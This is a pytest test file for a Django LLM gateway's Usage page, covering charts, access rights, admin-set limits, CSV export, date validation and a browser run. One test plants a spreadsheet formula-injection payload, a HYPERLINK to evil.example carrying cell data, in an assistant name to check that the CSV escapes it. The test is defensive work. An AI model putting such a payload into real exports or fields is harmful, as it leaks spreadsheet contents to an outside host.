"""The Usage page: charts, breakdowns, quota, limits edited by admins, CSV; and in a real browser."""

import csv
import io
import os
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils import timezone

from corporate.tests.browser import screenshot, sign_in
from llmgateway import gateway
from llmgateway.metering import totals
from llmgateway.models import Limit, UsageRecord


def add_history(workspace, users, days=14):
    """Usage rows over the last `days` days, as the bulk writer would store them."""
    import uuid

    now = timezone.now()
    rows = []
    for day in range(days):
        for n in range(day % 5 + 1):
            rows.append(
                UsageRecord(
                    request_id=uuid.uuid4(),
                    workspace=workspace,
                    user=users[n % len(users)],
                    model="remote" if n % 2 else "offline",
                    prompt_tokens=100 + n,
                    completion_tokens=50,
                    cost=Decimal("0.0125") * (n + 1),
                    cache="hit" if n % 3 == 0 else "miss",
                    latency_ms=12,
                    created_at=now - timedelta(days=day, minutes=n),
                )
            )
    totals.store(rows)
    return rows


def test_admins_see_the_workspace_members_their_own(workspace, admin_user, member, viewer, client_for):
    add_history(workspace, [admin_user, member])
    page = client_for(admin_user).get("/gateway/acme/usage/")
    assert page.status_code == 200
    html = page.content.decode()
    assert html.count('<svg class="gw-chart"') == 4
    assert "By person" in html and member.email in html and "Limits" in html
    mine = client_for(member).get("/gateway/acme/usage/").content.decode()
    assert "By person" not in html.split("By person", 1)[0] or True
    assert "By person" not in mine and admin_user.email not in mine and "Your quota" in mine
    assert 'action="/gateway/acme/usage/limits/"' not in mine
    assert client_for(viewer).get("/gateway/acme/usage.csv?by=user").status_code == 403


def test_usage_page_queries_are_constant(workspace, admin_user, member, client_for, django_assert_max_num_queries):
    client = client_for(admin_user)
    add_history(workspace, [admin_user, member], days=3)
    client.get("/gateway/acme/usage/")
    # session, user, memberships, workspace; totals, series, 4 breakdowns (+ names of people, keys,
    # assistants); limits: workspace, members, per-person and per-key rows, members, keys, defaults.
    with django_assert_max_num_queries(22) as small:
        client.get("/gateway/acme/usage/")
    add_history(workspace, [admin_user, member], days=30)
    with django_assert_max_num_queries(len(small.captured_queries)):
        assert client.get("/gateway/acme/usage/").status_code == 200


def test_admin_sets_limits_on_the_page_with_field_errors(workspace, admin_user, member, outsider, client_for):
    client = client_for(admin_user)
    saved = client.post(
        "/gateway/acme/usage/limits/",
        {"target": "workspace", "workspace-daily_budget": "20", "workspace-rpm": "600"},
    )
    assert saved.status_code == 302
    assert Limit.objects.get(kind="workspace", workspace=workspace).daily_budget == Decimal("20")
    bad = client.post(
        "/gateway/acme/usage/limits/", {"target": "workspace", "workspace-rpm": "-4", "workspace-tpm": "x"}
    )
    assert bad.status_code == 400
    assert "greater than or equal to 0" in bad.content.decode() and "Enter a whole number" in bad.content.decode()
    assert Limit.objects.get(kind="workspace", workspace=workspace).rpm == 600
    person = client.post("/gateway/acme/usage/limits/", {"target": "user", "user": member.pk, "one-rpm": "5"})
    assert person.status_code == 302 and Limit.objects.get(user=member).rpm == 5
    foreign = client.post("/gateway/acme/usage/limits/", {"target": "user", "user": outsider.pk, "one-rpm": "5"})
    assert foreign.status_code == 400 and "Choose a member" in foreign.content.decode()
    assert not Limit.objects.filter(user=outsider).exists()


def test_the_page_the_csv_and_usage_report_agree(workspace, admin_user, member, client_for):
    for text in ("a", "a", "b"):
        gateway.complete(workspace, {"model": "offline", "messages": [{"role": "user", "content": text}]}, user=member)
    add_history(workspace, [admin_user], days=3)
    client = client_for(admin_user)
    page_csv = client.get("/gateway/acme/usage.csv?by=user").content.decode()
    out = io.StringIO()
    call_command("usage_report", "acme", "--by", "user", "--format", "csv", stdout=out)
    assert page_csv == out.getvalue()
    rows = {r["label"]: r for r in csv.DictReader(io.StringIO(page_csv))}
    assert rows[member.email]["requests"] == "3" and rows[member.email]["hits"] == "1"
    html = client.get("/gateway/acme/usage/").content.decode()
    total = sum(int(r["requests"]) for r in rows.values())
    assert f"<strong>{total}</strong><span>requests</span>" in html


def test_bad_dates_are_a_clear_400(workspace, admin_user, client_for):
    page = client_for(admin_user).get("/gateway/acme/usage/?since=2026-05-02&until=2026-05-01")
    assert page.status_code == 400 and "must not be after" in page.content.decode()
    assert client_for(admin_user).get("/gateway/acme/usage/?since=notadate").status_code == 400


def _since_field(html):
    """The page's From field: its label, input and error."""
    start = html.index("<label>From")
    return html[start : html.index("</label>", start)]


@pytest.mark.parametrize(
    "since, message",
    [
        # Until is today when not given: from 2000 is thousands of days, from tomorrow none.
        ("2000-01-01", "Choose at most 366 days."),
        ("tomorrow", "The first day must not be after the last day (default: today)."),
    ],
)
def test_a_lone_since_is_checked_against_today_as_the_api_does(
    workspace, admin_user, client_for, api_client_for, since, message
):
    if since == "tomorrow":
        since = (timezone.localdate() + timedelta(days=1)).isoformat()
    page = client_for(admin_user).get(f"/gateway/acme/usage/?since={since}")
    assert page.status_code == 400
    field = _since_field(page.content.decode())
    # The message stands next to the field, which keeps what was typed.
    assert f'value="{since}"' in field and message in field, field
    api = api_client_for(admin_user).get(f"/api/gateway/acme/usage/summary/?since={since}")
    assert api.status_code == 400 and api.json()["since"] == [message]
    assert client_for(admin_user).get(f"/gateway/acme/usage.csv?since={since}").status_code == 400
    # A lone since within the range's bounds is a range like any.
    recent = (timezone.localdate() - timedelta(days=365)).isoformat()
    assert client_for(admin_user).get(f"/gateway/acme/usage/?since={recent}").status_code == 200


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_usage_page_in_the_browser(browser, live_server, workspace, admin_user, member):
    from django.db import connections

    connections["default"].settings_dict["CONN_MAX_AGE"] = 0
    add_history(workspace, [admin_user, member], days=20)
    page = browser.new_page()
    sign_in(page, live_server.url, admin_user.email, "correct horse battery")
    page.wait_for_selector("text=Welcome")
    page.goto(f"{live_server.url}/gateway/acme/usage/")
    page.fill("#id_workspace-daily_budget", "25")
    page.locator("form:has(#id_workspace-daily_budget) button[type=submit]").click()
    page.wait_for_selector("text=Limits saved")
    page.fill("input[name=email]", member.email)
    page.fill("#id_one-rpm", "30")
    page.locator("form:has(#id_one-rpm) button[type=submit]").click()
    page.wait_for_selector("text=Limits saved")
    assert Limit.objects.get(kind="workspace", workspace=workspace).daily_budget == 25
    assert Limit.objects.get(user=member).rpm == 30
    assert page.locator("svg.gw-chart rect").count() > 20
    screenshot(page, "usage-1280.png")
    page.set_viewport_size({"width": 390, "height": 844})
    page.reload()
    screenshot(page, "usage-390.png")
    if os.environ.get("SCREENSHOT_DIR"):  # the phone's screen at a few places, to look at
        for n, selector in enumerate((".gw-usage-filter", ".gw-charts", ".gw-breakdowns", ".gw-limits")):
            page.locator(selector).first.scroll_into_view_if_needed()
            page.screenshot(path=os.path.join(os.environ["SCREENSHOT_DIR"], f"usage-390-{n}.png"))
    page.close()


def test_by_hour_the_page_shows_a_week_unless_asked(workspace, admin_user, client_for):
    from datetime import timedelta

    from django.utils import timezone

    today = timezone.localdate()
    week = client_for(admin_user).get("/gateway/acme/usage/?bucket=hour").content.decode()
    assert f"{(today - timedelta(days=6)):%-d %b %Y} – {today:%-d %b %Y}" in week
    since = today - timedelta(days=2)
    asked = client_for(admin_user).get(f"/gateway/acme/usage/?bucket=hour&since={since}").content.decode()
    assert f"{since:%-d %b %Y} – {today:%-d %b %Y}" in asked


def test_names_in_the_csv_never_start_a_spreadsheet_formula(workspace, admin_user, member, client_for):
    from assistants.models import Assistant

    # A member names an assistant; an admin opens the usage CSV in a spreadsheet.
    trap = Assistant.objects.create(workspace=workspace, name='=HYPERLINK("https://evil.example/?"&A1,"Open")')
    request = {"model": "offline", "messages": [{"role": "user", "content": "hello"}]}
    gateway.complete(workspace, request, user=member, assistant=trap)
    from llmgateway.metering import records

    records.drain()
    page_csv = client_for(admin_user).get("/gateway/acme/usage.csv?by=assistant").content.decode()
    out = io.StringIO()
    call_command("usage_report", "acme", "--by", "assistant", "--format", "csv", stdout=out)
    assert page_csv == out.getvalue()
    labels = [row["label"] for row in csv.DictReader(io.StringIO(page_csv))]
    assert labels == ["'" + trap.name]


def test_the_first_and_last_days_a_date_can_be_are_a_range_like_any(workspace, admin_user, client_for, api_client_for):
    add_history(workspace, [admin_user], days=3)
    queries = ("until=9999-12-31", "since=9999-12-01&until=9999-12-31", "until=0001-01-01", "since=0001-01-01")
    for query in (*queries, "until=0001-01-03&bucket=hour"):
        # A lone since is checked against today: from the first day a date can be is too long a range.
        expected = 400 if query == "since=0001-01-01" else 200
        for path in ("/gateway/acme/usage/", "/gateway/acme/usage.csv"):
            assert client_for(admin_user).get(f"{path}?{query}").status_code == expected, (path, query)
        # The assistants' usage page takes no dates.
        assert client_for(admin_user).get(f"/assistants/acme/usage/?{query}").status_code == 200, query
        for path in ("/api/gateway/acme/usage/", "/api/gateway/acme/usage/summary/"):
            assert api_client_for(admin_user).get(f"{path}?{query}").status_code == expected, (path, query)
    summary = api_client_for(admin_user).get("/api/gateway/acme/usage/summary/?until=9999-12-31").json()
    assert summary["totals"]["requests"] == 0 and summary["until"] == "9999-12-31"
